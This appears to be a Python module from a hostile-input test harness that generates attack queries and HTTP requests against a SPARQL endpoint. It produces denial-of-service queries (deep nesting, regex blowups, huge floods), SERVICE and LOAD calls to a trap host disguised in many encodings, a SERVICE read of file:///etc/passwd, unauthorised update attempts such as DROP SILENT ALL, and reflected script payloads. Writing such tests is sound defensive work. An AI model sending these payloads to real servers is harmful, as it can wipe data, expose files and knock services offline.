"""Queries that ask for too much, or for what nobody may have."""

from __future__ import annotations

import random
from urllib.parse import quote

from hostile.shots import MARK, Aim, Kind, Manner, Shot, ask, request

FORMATS = ("application/sparql-results+json", "application/sparql-results+xml", "text/csv",
           "text/tab-separated-values", "text/html", "application/json")  # fmt: skip


def nest(rng: random.Random, aim: Aim) -> Shot:
    depth = rng.choice((90, 101, 1000, 20_000, 300_000))
    pattern = rng.choice((
        "SELECT * {" + "{" * depth + "}" * depth + "}",
        "SELECT * { ?s ?p ?o FILTER(" + "(" * depth + "1" + ")" * depth + ") }",
        "SELECT * { ?s ?p ?o FILTER(" + "!" * depth + "true) }",
        "SELECT * { ?s ?p ?o FILTER(" + "-" * depth + "1 = 1) }",
        "SELECT * { ?s " + "(" * depth + "rdf:type" + ")" * depth + " ?o }",
        "SELECT * { ?s " + "^" * depth + "rdf:type ?o }",
        "SELECT * { ?s !" + "(" * depth + "rdf:type" + ")" * depth + " ?o }",
        "SELECT * { ?s rdf:type" + "/rdf:type" * depth + " ?o }",
        "SELECT * { ?s rdf:type" + "|rdf:type" * depth + " ?o }",
        "SELECT * { ?s rdf:type" + "*" * depth + " ?o }",
        "SELECT * { {}" + " UNION {}" * depth + " }",
        "SELECT * { ?s ?p " + "(" * depth + ")" * depth + " }",
        "SELECT * { ?s ?p " + "[ ?p " * depth + "1" + "]" * depth + " }",
        "SELECT * { ?s ?p " + "<< ?a ?b " * depth + "?c" + ">>" * depth + " }",
        "SELECT * { " + "OPTIONAL { ?s ?p ?o " * depth + "}" * depth + " }",
        "SELECT * { " + "{ SELECT * " * depth + "{}" + "}" * depth + " }",
        "SELECT * { ?s ?p ?o FILTER(" + "EXISTS { FILTER " * depth + "(true)" + "}" * depth + ") }",
        "SELECT (" + "IF(true," * depth + "1" + ",1)" * depth + " AS ?x) {}",
        "SELECT * { ?s ?p ?o FILTER(1" + "+1" * depth + " = 1) }",
        "SELECT * { ?s ?p ?o FILTER(true" + " && true" * depth + ") }",
        "[" * depth, "((((" * depth, "<" * depth, '"""' * depth, "#" * depth, "\\" * depth,
    ))  # fmt: skip
    return ask(pattern, aim, rng.choice(FORMATS))


def multiply(rng: random.Random, aim: Aim) -> Shot:
    """Cartesian products: more rows than there is time or room for."""
    triples = " . ".join(f"?a{i} ?b{i} ?c{i}" for i in range(rng.randint(2, 6)))
    head = rng.choice((
        "SELECT *", "SELECT DISTINCT *", "SELECT (COUNT(*) AS ?n)", "SELECT (COUNT(DISTINCT *) AS ?n)",
        "SELECT (GROUP_CONCAT(?c0) AS ?x)", "SELECT ?a0 (SAMPLE(?c1) AS ?x)", "CONSTRUCT { ?a0 ?b1 ?c1 }", "DESCRIBE *",
    ))  # fmt: skip
    tail = {"SELECT ?a0 (SAMPLE(?c1) AS ?x)": " GROUP BY ?a0"}.get(head, "")
    tail += rng.choice(("", "", " ORDER BY RAND()", " ORDER BY ?c1 ?c0", f" OFFSET {rng.randrange(10**12)}"))
    return ask(f"{head} WHERE {{ {triples} }}{tail}", aim, rng.choice((*FORMATS, "text/turtle")))


def hoard(rng: random.Random, aim: Aim) -> Shot:
    """What must be held in memory as a whole."""
    triples = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i"
    return ask(rng.choice((
        f"SELECT * {{ {triples} }} ORDER BY ?c ?f ?i",
        f"SELECT DISTINCT * {{ {triples} }}",
        f"SELECT (GROUP_CONCAT(CONCAT(STR(?c),STR(?f))) AS ?x) {{ {triples} }}",
        f"SELECT (COUNT(DISTINCT CONCAT(STR(?a),STR(?f),STR(?i))) AS ?n) {{ {triples} }}",
        f"SELECT ?a ?d ?g (COUNT(*) AS ?n) {{ {triples} }} GROUP BY ?a ?d ?g",
        "SELECT ?x0 { BIND(REPLACE('xxxxxxxxxx','x','yyyyyyyyyy') AS ?x0) "
        + "".join(f"BIND(REPLACE(?x{i},'y',?x{i}) AS ?x{i + 1}) " for i in range(8)) + "}",
        "SELECT (STRLEN(?x40) AS ?n) { BIND('xxxxxxxx' AS ?x0) "
        + "".join(f"BIND(CONCAT(?x{i},?x{i}) AS ?x{i + 1}) " for i in range(40)) + "}",
        "SELECT (ENCODE_FOR_URI(?x36) AS ?n) { BIND('é' AS ?x0) "
        + "".join(f"BIND(CONCAT(?x{i},?x{i}) AS ?x{i + 1}) " for i in range(36)) + "}",
    )), aim)  # fmt: skip


def walk(rng: random.Random, aim: Aim) -> Shot:
    """Property paths that reach everything from everywhere."""
    path = rng.choice(("!<x:y>*", "(!<x:y>|^!<x:y>)*", "(!<x:y>|!<x:z>)+", "((!<x:y>*)*)*", "(!<x:y>+/^!<x:y>+)+",
                       "!<x:y>?/!<x:y>?/!<x:y>?/!<x:y>*"))  # fmt: skip
    return ask(f"SELECT (COUNT(*) AS ?n) {{ ?s {path} ?o . ?o {path} ?t }}", aim)


def match(rng: random.Random, aim: Aim) -> Shot:
    """Regular expressions and text functions."""
    pattern = rng.choice(("(a+)+$", "(a|a)*b", "(.*)*x", "(x+x+)+y", "^(([a-z])+.)+[A-Z]([a-z])+$", "a{1000}{1000}",
                          "((a{100}){100}){100}", "(" * 200 + ")" * 200, "[" * 500, "(?i)" + "é*" * 1000))  # fmt: skip
    subject = "'" + "a" * rng.choice((50, 20_000)) + "!'"
    return ask(rng.choice((
        f"SELECT * {{ FILTER(REGEX({subject}, '{pattern}')) }}",
        f"SELECT (REPLACE({subject}, '{pattern}', '$0$0$0$0$0') AS ?x) {{}}",
        f"SELECT * {{ ?s ?p ?o . ?a ?b ?c FILTER(REGEX(STR(?o), CONCAT('{pattern}', STR(?c)))) }}",
    )), aim)  # fmt: skip


def enumerate_much(rng: random.Random, aim: Aim) -> Shot:
    """Long lists."""
    size = rng.choice((1000, 30_000, 120_000))
    return ask(rng.choice((
        "SELECT * { VALUES ?x {" + " 1" * size + "} VALUES ?y {" + " 2" * size + "} }",
        "SELECT * { ?s ?p ?o FILTER(?o IN (1" + ",1" * size + ")) }",
        "SELECT " + " ".join(f"?v{i}" for i in range(size // 10)) + " { ?s ?p ?o }",
        "SELECT * { " + "?s ?p ?o . " * (size // 10) + "}",
        "SELECT * { " + " ".join(f"?s{i} ?p ?o{i} ." for i in range(size // 100)) + "}",
        "SELECT * { " + "OPTIONAL { ?s ?p ?o } " * (size // 10) + "}",
        "SELECT * " + " ".join(f"FROM <x:{i}>" for i in range(size)) + " { ?s ?p ?o }",
    )), aim)  # fmt: skip


def gamble(rng: random.Random, aim: Aim) -> Shot:
    bind = " ".join(f"BIND(RAND() AS ?r{i})" for i in range(rng.randint(1, 200)))
    return ask(f"SELECT * {{ ?s ?p ?o . ?a ?b ?c {bind} }} ORDER BY ?r0", aim)


def flood(rng: random.Random, aim: Aim) -> Shot:
    """Queries of up to ten megabytes, and beyond."""
    size = rng.choice((1_000_000, 9_900_000, 10_000_000, 12_000_000))
    start, piece = rng.choice((("SELECT * {}#", "x"), ("SELECT * {} ", " "), ("SELECT ('", "x"), ("ASK { ?s ?p '",
    "\\n"),
                               ("SELECT * { ", "?s ?p ?o ."), ("", "\n"), ("SELECT * { VALUES ?x { ", "1 "),
                               ("# service <http://x> {", "service ")))  # fmt: skip
    query = start + piece * (size // len(piece))
    return ask(query + rng.choice(("", "}", "')}")), aim)


def call_out(rng: random.Random, aim: Aim) -> Shot:
    """SERVICE in every disguise, and FROM of what lies elsewhere."""
    url = f"http://{aim.trap}/service"
    return ask(rng.choice((
        f"SELECT * {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ sErViCe SiLeNt <{url}> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SERVICE#x\n<{url}>#{{\n{{ ?s ?p ?o }} }}",
        f"SELECT * {{ SERVICE\t\r\n\f<{url}>{{}} }}",
        f"SELECT * {{ SERVICE\u00a0<{url}>{{}} }}",
        f"SELECT * {{ \\u0053ERVICE <{url}> {{}} }}",
        f"SELECT * {{ \\u0053\\u0045\\u0052\\u0056\\u0049\\u0043\\u0045 <{url}> {{}} }}",
        f"SELECT * {{ SERV\\u0049CE <{url}> {{ ?s ?p ?o }} }}",
        f"PREFIX s: <http://{aim.trap}/> SELECT * {{ SERVICE s:service {{ ?s ?p ?o }} }}",
        f"PREFIX : <http://{aim.trap}/> SELECT * {{ SERVICE:service{{ ?s ?p ?o }} }}",
        f"BASE <http://{aim.trap}/> SELECT * {{ SERVICE <service> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ BIND(<{url}> AS ?e) SERVICE ?e {{ ?s ?p ?o }} }}",
        f"SELECT * {{ VALUES ?e {{ <{url}> }} SERVICE SILENT $e {{ ?s ?p ?o }} }}",
        f"SELECT * {{ FILTER EXISTS {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
        f"SELECT * {{ ?s ?p ?o MINUS {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
        f"SELECT * {{ GRAPH ?g {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
        f"SELECT * {{ {{ SELECT * {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }} }}",
        f"SELECT * FROM <{url}> FROM NAMED <{url}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
        f"DESCRIBE <{url}>", f"ASK {{ GRAPH <{url}> {{ ?s ?p ?o }} }}",
        "SELECT * { SERVICE <file:///etc/passwd> { ?s ?p ?o } }",
        "SELECT * { LOAD <" + url + "> }",
        f"# SERVICE\nSELECT ?service {{ ?service ?p 'SERVICE' . SERVICE <{url}> {{}} }}",
    )), aim)  # fmt: skip


def update(rng: random.Random, aim: Aim) -> Shot:
    """SPARQL Update by every route."""
    text = rng.choice((
        "INSERT DATA { <x:hostile> <x:p> 1 }", "DELETE WHERE { ?s ?p ?o }", "CLEAR ALL", "DROP SILENT ALL",
        f"LOAD <http://{aim.trap}/load>", f"LOAD SILENT <http://{aim.trap}/load> INTO GRAPH <x:hostile>",
        "# c\nPREFIX x: <x:> INSERT { x:hostile x:p 1 } WHERE {}", "CREATE GRAPH <x:hostile>",
        "SELECT * {} ; INSERT DATA { <x:hostile> <x:p> 1 }", "\\u0049NSERT DATA { <x:hostile> <x:p> 1 }",
        "ASK {}; CLEAR ALL", "COPY DEFAULT TO <x:hostile>",
    ))  # fmt: skip
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    name = rng.choice(("update", "query", "UPDATE", "update[]", "upd%61te"))
    encoded = f"{name}={quote(text, safe='')}"
    target = rng.choice(("/sparql", "/sparql", "/update", "/sparql/update", "/sparql/", "/statements", "/"))
    return Shot(rng.choice((
        request("POST", target, aim, {"Content-Type": "application/sparql-update"}, text.encode()),
        request("POST", target, aim, {"Content-Type": "application/sparql-query"}, text.encode()),
        request("POST", target, aim, {"Content-Type": "Application/SPARQL-Update; charset=utf-8"}, text.encode()),
        request("POST", target, aim, form, encoded.encode()),
        request("POST", f"{target}?{encoded}", aim, form, b""),
        request("GET", f"{target}?{encoded}", aim, {"X-HTTP-Method-Override": "POST"}),
        request("PUT", f"{target}?{encoded}", aim, form, b"x"), request("PATCH", f"{target}?{encoded}", aim),
        request("POST", target, aim, {"Content-Type": "multipart/form-data; boundary=b"},
                f'--b\r\nContent-Disposition: form-data; name="update"\r\n\r\n{text}\r\n--b--\r\n'.encode()),
    )))  # fmt: skip


def reflect(rng: random.Random, aim: Aim) -> Shot:
    """Script wherever a page may show what it was given."""
    script = MARK + rng.choice((">1</script>", "\"'><img src=x onerror=alert(1)>", "--></title>", "]]>"))
    query = rng.choice((
        f"SELECT ('{script}' AS ?x) {{}}".replace("\"'>", ">"), f'SELECT ("{script}"@en AS ?x) {{}}'.replace("\"'>",
        ">"),
        f"SELECT {script}", f"CONSTRUCT {{ <x:a> <x:p> '''{script}''' }} {{}}", f"ASK {{}} # {script}",
        "SELECT (IRI('javascript:alert(1)') AS ?x) {}", f"SELECT ('' AS ?{script}) {{}}",
    ))  # fmt: skip
    encoded = quote(script, safe="")
    target = rng.choice((
        f"/sparql?query={quote(query, safe='')}", f"/sparql?query={quote(query, safe='')}&format=html",
        f"/search?q={encoded}", f"/search?q={encoded}{encoded * 20}", f"/{encoded}", f"/state/{encoded}",
        f"/graphs?graph=http://x/{encoded}", f"/graphs?{encoded}=1", f"/graphs/{encoded}", f"/sparql?{encoded}=1",
        f"/sparql?query=ASK{{}}&format={encoded}", f"/sparql?query=ASK{{}}&default-graph-uri={encoded}",
        f"/article/{encoded}.html", f"/articles?published={encoded}", f"/ontology.{encoded}", f"/static/{encoded}",
    ))  # fmt: skip
    headers = {"Accept": rng.choice(("text/html", "text/html,application/xhtml+xml,*/*;q=0.8", script)),
               "Referer": script, "User-Agent": script, "X-Forwarded-Host": script}  # fmt: skip
    if rng.random() < 0.2:
        headers["Host"] = rng.choice((script.replace("/", ""), 'x"onload=alert(1)//', "javascript:alert(1)"))
    return Shot(request(rng.choice(("GET", "GET", "POST")), target, aim, headers))


def swallow(rng: random.Random, aim: Aim) -> Shot:
    """Answers of megabytes that the client does not take, or in drops."""
    query = f"SELECT * {{ ?s ?p ?o . ?a ?b ?c }} LIMIT {rng.choice((3000, 20_000, 100_000, 2_000_000))}"
    return ask(query, aim, rng.choice(FORMATS), rng.choice((Manner.DEAF, Manner.SIP, Manner.GONE)))


KINDS = (
    Kind("nested deeply", nest, 3),
    Kind("cartesian products", multiply, 2),
    Kind("memory hogs", hoard, 1),
    Kind("property paths", walk, 1),
    Kind("regular expressions", match, 1),
    Kind("long lists", enumerate_much, 1),
    Kind("RAND and BIND", gamble, 1),
    Kind("queries of 10 MB", flood, 0.4),
    Kind("SERVICE in disguise", call_out, 6),
    Kind("updates", update, 7),
    Kind("script reflected", reflect, 7),
    Kind("answers not taken", swallow, 1),
)
